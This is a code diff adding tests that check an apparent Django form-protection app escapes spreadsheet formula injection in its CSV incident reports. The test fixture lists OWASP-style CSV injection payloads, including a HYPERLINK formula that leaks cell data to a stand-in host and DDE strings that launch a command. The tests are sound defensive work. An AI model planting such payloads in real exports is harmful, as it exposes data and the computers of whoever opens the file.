@@ -219,6 +219,51 @@ def test_report_from_the_admin(client, admin_client):
     assert bad.status_code == 400
 
 
+# OWASP's CSV injection payloads: each becomes a live formula (or a new cell
+# or row holding one) when a spreadsheet opens a cell that starts with it.
+FORMULA_PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
+
+
+def test_report_download_neutralises_formulas_the_attacker_sent(client, admin_client):
+    for i, payload in enumerate(FORMULA_PAYLOADS, start=1):
+        call_command("formguard", "ban", f"198.51.100.{i}")
+        client.post("/contact/", {"message": payload}, REMOTE_ADDR=f"198.51.100.{i}", HTTP_USER_AGENT=payload)
+    day = timezone.localdate().isoformat()
+    response = admin_client.get(f"/admin/formguard/incident/report/?since={day}&until={day}&format=csv")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # Neutralised, not lost: the user agent column still says what was sent.
+    agents = {row[10] for row in rows[1:]}
+    assert agents == {"'" + payload.replace("|", "\\|") for payload in FORMULA_PAYLOADS}
+
+
+def test_report_command_csv_neutralises_formulas(client, tmp_path):
+    call_command("formguard", "ban", SPAMMER)
+    client.post("/contact/", {"message": "x"}, REMOTE_ADDR=SPAMMER, HTTP_USER_AGENT=FORMULA_PAYLOADS[0])
+    day = timezone.localdate().isoformat()
+    out = tmp_path / "report.csv"
+    call_command("formguard", "report", "--since", day, "--until", day, "--format", "csv", "--output", str(out))
+    (row,) = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))[1:]
+    assert row[10] == "'" + FORMULA_PAYLOADS[0]
+
+
+def test_negative_numbers_stay_numbers_in_the_csv(client):
+    call_command("formguard", "ban", SPAMMER)
+    client.post("/contact/", {"message": "x"}, REMOTE_ADDR=SPAMMER, HTTP_USER_AGENT="-1.5")
+    rows = list(csv.reader(io.StringIO(reports.to_csv(todays_report()).decode("utf-8-sig"), newline="")))
+    assert rows[1][10] == "-1.5"
+
+
 def test_dashboard_with_data_and_without(client, admin_client):
     empty = admin_client.get("/admin/formguard/incident/dashboard/")
     assert empty.status_code == 200
